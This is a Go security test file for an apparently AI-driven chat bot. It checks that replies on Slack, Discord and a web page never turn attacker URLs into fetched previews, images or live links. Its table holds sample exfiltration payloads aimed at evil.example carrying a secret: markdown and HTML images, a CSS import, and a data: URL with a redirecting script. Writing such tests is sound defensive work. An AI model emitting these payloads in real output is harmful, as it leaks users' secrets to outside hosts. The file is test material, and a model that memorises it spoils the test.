package attacks

import (
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	"github.com/nodhq/nod/tests/standins/fakediscord"
)

const leak = "https://evil.example/?q=secret-of-ana"

// exfiltration is row 22: nothing that is written makes a platform or a browser fetch an address.
func exfiltration() (out []attack) {
	for name, text := range map[string]string{
		"image":       "![x](" + leak + ")",
		"bare":        "see " + leak,
		"masked":      "[the report](" + leak + ")",
		"reference":   "![x][1]\n\n[1]: " + leak,
		"html-image":  `<img src="` + leak + `">`,
		"angle":       "<" + leak + ">",
		"slack-link":  "<" + leak + "|report>",
		"many":        strings.Repeat(leak+"1 ", 20),
		"protocol":    "//evil.example/?q=secret-of-ana",
		"css":         `<style>@import "` + leak + `"</style>`,
		"data-scheme": "[x](data:text/html,<script>location='" + leak + "'</script>)",
		"code-fence":  "```\n" + leak + "\n```",
	} {
		for where, script := range map[string]func(name string) []reply{
			"answer":   func(string) []reply { return []reply{says(text)} },
			"argument": func(name string) []reply { return []reply{wants(call("box", "write", args(name, "text", text)))} },
			"result": func(name string) []reply {
				return []reply{wants(call("box", "free", args("-", "say", text))), says(text)}
			},
			"failure": func(name string) []reply {
				return []reply{wants(call("loud", "fails", args("-", "say", text))), says("It failed: " + text)}
			},
		} {
			out = append(out, everywhere(22, name+"-in-"+where, func(t *testing.T, w *world, surface string) {
				k := begin(t, w, surface, script(idOf(t))...)
				k.until("it asks or is over", func(s shot) bool { return s.asks > 0 || s.over })
				k.quiet()
				k.end()
				k.quiet()
			})...)
		}
	}
	return out
}

// quiet looks at everything that went out of the chat: no preview, no mention, nothing to fetch.
func (k *talk) quiet() {
	k.t.Helper()
	switch p := k.place.(type) {
	case *thread:
		for _, m := range p.w.slack.Messages(p.channel, p.root) {
			if m.User == p.w.slack.BotUser() && (m.Unfurl.Links || m.Unfurl.Media) {
				k.t.Errorf("previews are made of %s: %+v", m.TS, m.Unfurl)
			}
		}
		for _, x := range p.payloads() {
			if strings.Contains(x, `"image_url"`) {
				k.t.Errorf("an image is fetched: %s", clip(x, 2000))
			}
		}
	case *strand:
		p.quiet(k.t)
	case *chatroom:
		p.quiet(k.t)
	}
}

// quiet looks at each request as it went out, edits included.
func (k *strand) quiet(t testing.TB) {
	t.Helper()
	for _, c := range k.w.discord.Calls(fakediscord.CreateMessage, fakediscord.EditMessage, fakediscord.CreateFollowup, fakediscord.EditOriginal) {
		if c.Channel != k.thread && c.Channel != k.channel {
			continue
		}
		allowed, _ := c.Body["allowed_mentions"].(map[string]any)
		parse, isList := allowed["parse"].([]any)
		if !isList || len(parse) > 0 {
			t.Errorf("%s allows mentions: %v", c.Method, c.Body["allowed_mentions"])
		}
		if _, embeds := c.Body["embeds"]; embeds {
			t.Errorf("%s has embeds", c.Method)
		}
	}
	for _, m := range k.w.discord.Mine(k.thread) {
		for _, v := range m.Versions {
			if m.Type != fakediscord.TypeThreadStarter && m.Type != fakediscord.TypeThreadCreated && v.Flags&(fakediscord.FlagSuppressEmbeds|fakediscord.FlagComponentsV2) == 0 {
				t.Errorf("a version has the flags %d: links in it are previewed", v.Flags)
			}
			if len(v.Embeds) > 0 || v.Everyone || len(v.Mentions)+len(v.MentionRoles) > 0 {
				t.Errorf("a version has embeds %v, or notifies %v", v.Embeds, v.Mentions)
			}
		}
	}
	for _, x := range k.payloads() {
		for _, kind := range []string{`"type":12`, `"type":11`} { // a media gallery, a thumbnail: Discord would fetch them
			if strings.Contains(x, kind+",") || strings.Contains(x, kind+"}") {
				if strings.Contains(x, `"media":`) {
					t.Errorf("media is fetched: %s", clip(x, 2000))
				}
			}
		}
		if live := liveLinks(x); len(live) > 0 {
			t.Errorf("an address of the attacker's is alive: %q", live)
		}
	}
}

// liveLinks are addresses that Discord would make a link of: outside code, without what makes them inert.
func liveLinks(payload string) (out []string) {
	content, components, _ := strings.Cut(payload, "\n")
	texts := []string{content}
	walk([]byte(components), func(o map[string]any) {
		if s, ok := o["content"].(string); ok {
			texts = append(texts, s)
		}
		if s, ok := o["url"].(string); ok {
			out = append(out, s)
		}
	})
	for _, s := range texts {
		rest := discordFence.ReplaceAllString(s, "")
		rest = inlineCode.ReplaceAllString(rest, "")
		for _, scheme := range []string{"https://evil", "http://evil"} {
			if strings.Contains(rest, scheme) {
				out = append(out, rest)
			}
		}
	}
	return out
}

// quiet: the page's policy fetches nothing of others, and what it is given to draw holds no image.
func (r *chatroom) quiet(t testing.TB) {
	t.Helper()
	h := http.Header{"Authorization": {"Bearer " + r.w.sessions[ana].key}}
	req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, r.w.url+r.path(""), nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header = h
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	var c map[string]any
	if err := json.NewDecoder(res.Body).Decode(&c); err != nil {
		t.Fatal(err)
	}
	csp := res.Header.Get("Content-Security-Policy")
	for _, directive := range []string{"default-src 'none'", "frame-ancestors 'none'"} {
		if !strings.Contains(csp, directive) {
			t.Errorf("the policy %q has no %q", csp, directive)
		}
	}
	for _, d := range strings.Split(csp, ";") {
		if strings.Contains(d, "http:") || strings.Contains(d, "https:") || strings.Contains(d, "*") || strings.Contains(d, "unsafe") {
			t.Errorf("the policy lets others in: %q", d)
		}
	}
	if res.Header.Get("X-Content-Type-Options") != "nosniff" || !strings.HasPrefix(res.Header.Get("Content-Type"), "application/json") {
		t.Errorf("headers %v", res.Header)
	}
	for _, n := range r.nodes(t) {
		if kind := n["kind"]; kind == "image" || n["type"] == "image" || n["src"] != nil {
			t.Errorf("the page is given an image: %v", n)
		}
	}
}
